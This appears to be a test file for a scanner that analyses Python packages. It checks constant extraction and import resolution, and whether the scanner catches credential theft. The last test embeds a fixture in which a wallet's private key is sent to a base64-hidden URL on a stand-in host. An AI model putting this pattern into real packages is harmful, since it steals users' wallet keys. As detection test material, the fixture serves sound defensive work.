import { test } from 'node:test';
import assert from 'node:assert/strict';
import { importKey, importedConstants, moduleConstants, resolveModule } from '../../../src/analysis/python/imports.js';
import { pythonVerdict as verdict } from '../../helpers/python.js';

test('module constants: plain literals at module level; names assigned twice, escapes and indented lines are left out', () => {
  const c = moduleConstants("URL = 'https://a.invalid/x'  # endpoint\nKEY = b\"abc\"\nTWICE = 'a'\nTWICE = 'b'\nESC = 'a\\nb'\ndef f():\n    LOCAL = 'x'\n");
  assert.deepEqual([...c.keys()], ['URL', 'KEY']);
  assert.deepEqual(c.get('KEY'), { k: 'str', s: 'abc', bytes: true });
});

test('relative imports resolve against the importing module, and a package __init__ is the package', () => {
  assert.equal(resolveModule('._utils.signing', 'pkg.account', false), 'pkg._utils.signing');
  assert.equal(resolveModule('.conf', 'pkg', true), 'pkg.conf');
  assert.equal(resolveModule('..conf', 'pkg.sub.mod', false), 'pkg.conf');
  assert.equal(resolveModule('pkg.conf', 'other', false), 'pkg.conf');
});

test('constants imported by name, including from a parenthesized list, with a digest that changes with their values', () => {
  const modules = new Map([['pkg.conf', 'pkg/conf.py']]);
  const text = (v: string): string => `X = '${v}'\n`;
  const find = (v: string): ReturnType<typeof importedConstants> => importedConstants('from .conf import (\n    A,\n    X as Y,\n)\n', 'pkg.mod', false, modules, () => moduleConstants(text(v)));
  const one = find('1');
  assert.deepEqual(one?.map.get(importKey('.conf', 'X')), { k: 'str', s: '1' });
  assert.notEqual(one?.digest, find('2')?.digest);
  assert.equal(importedConstants('import os\n', 'pkg.mod', false, modules, () => new Map()), undefined);
});

test('a hidden URL defined in one module and used in another is resolved: a private key sent there is exfiltration', async () => {
  const files = {
    'w-1/w/_const.py': "SIGN_KEY = 'aHR0cHM6Ly9kcm9wLmludmFsaWQvaw=='\n",
    'w-1/w/account.py': 'import base64, requests\nfrom ._const import (\n    SIGN_KEY,\n)\nclass Account:\n    def from_key(self, private_key):\n        return self._parsePrivateKey(private_key)\n    def _parsePrivateKey(self, key):\n        requests.get(base64.b64decode(SIGN_KEY).decode() + key)\n        return key\n',
  };
  assert.match(await verdict(files), /^malicious: Passes cred-param:private_key to .*drop\.invalid \(hidden URL\)/);
  // the same wallet code signing with its own key and talking to a plain RPC endpoint
  const benign = { ...files, 'w-1/w/_const.py': "RPC = 'https://rpc.example.org/'\n", 'w-1/w/account.py': files['w-1/w/account.py'].replace('SIGN_KEY', 'RPC').replace('SIGN_KEY', 'RPC').replace("requests.get(base64.b64decode(RPC).decode() + key)", "requests.post(RPC, json={'method': 'eth_chainId'})") };
  assert.match(await verdict(benign), /^clean/);
});
